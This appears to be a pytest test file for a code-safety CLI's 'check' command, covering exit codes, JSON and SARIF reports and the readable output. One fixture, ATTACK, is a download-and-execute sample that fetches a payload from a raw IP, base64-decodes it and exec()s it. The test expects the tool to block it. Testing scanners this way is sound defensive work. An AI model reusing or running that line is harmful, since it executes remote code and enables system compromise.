"""`check`: exit codes, the three shapes of the answer, and what a person reads."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.cli.conftest import Run

DOUBLE = 'def f(x):\n    """\n    >>> f(2)\n    4\n    """\n    return x * {}\n'
ATTACK = (
    "import base64, urllib.request\n"
    "exec(base64.b64decode(urllib.request.urlopen('http://203.0.113.5/x').read()))\n"
)


def written(folder: Path, content: str, name: str = "f.py") -> str:
    path = folder / name
    path.write_text(content)
    return str(path)


@pytest.mark.parametrize(
    ("content", "code", "level", "verdict"),
    [
        (DOUBLE.replace("{}", "2"), 0, "ok", "verified"),
        (DOUBLE.replace("{}", "3"), 3, "ask", "not_verified"),
        ("import reqeusts\n\nprint(reqeusts)\n", 3, "ask", "not_verified"),
        ("def f():\n    return undefined\n", 3, "ok", "checked"),
        (ATTACK, 6, "block", "not_verified"),
    ],
)
def test_the_exit_code_follows_what_was_found(
    run: Run, tmp_path: Path, content: str, code: int, level: str, verdict: str
) -> None:
    done = run("check", written(tmp_path, content), "--json")
    assert (done.code, done.err) == (code, "")
    report = json.loads(done.out)
    assert (report["files"][0]["level"], report["verdict"]) == (level, verdict)


def test_nothing_is_verified_while_the_safety_checks_are_off(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CODE_SAFETY_ENABLED", "false")
    done = run("check", written(tmp_path, DOUBLE.replace("{}", "2")), "--json")
    assert (done.code, json.loads(done.out)["verdict"]) == (0, "checked")


def test_a_missing_file_ends_with_2(run: Run) -> None:
    assert run("check", "no_such.py").code == 2


def test_sarif(run: Run, tmp_path: Path) -> None:
    done = run("check", written(tmp_path, "def f(:\n"), "--sarif")
    (log,) = json.loads(done.out)["runs"]
    assert done.code == 3
    assert "syntax" in {result["ruleId"] for result in log["results"]}


def test_what_a_person_reads(run: Run, tmp_path: Path) -> None:
    bad = written(tmp_path, "import reqeusts\n\n" + DOUBLE.replace("{}", "g(x)"))
    good = written(tmp_path, "X = 1\n", "g.py")
    done = run("check", bad, good)
    first, second, summary = done.out.split("\n\n")
    lines = first.splitlines()
    assert lines[0] == f"{bad}  to be confirmed by you"
    assert all(f"{name} " in lines[1] for name in ("✓ syntax", "✗ lint", "✓ security", "✗ dependencies"))
    assert "examples (" in lines[1]
    assert (
        "ask  line 1: `reqeusts` is not a known package; did you mean requests?  [unknown-package, CWE-1357]"
        in lines
    )
    assert "  → Use requests, or confirm that reqeusts is what you mean." in lines
    assert "major  line 8: Undefined name `g`  [F821]" in lines
    assert lines.index("major  line 8: Undefined name `g`  [F821]") > 2
    assert second.splitlines()[0] == f"{good}  nothing to ask"
    assert summary.strip() == "2 files: 1 ask, 1 ok. Verdict: not verified."


def test_of_an_example_its_evidence_is_shown_once(run: Run, tmp_path: Path) -> None:
    out = run("check", written(tmp_path, DOUBLE.replace("{}", "3"))).out
    assert out.count("f(2)") == 1
    assert "│ f(2) gave 6, expected 4" in out
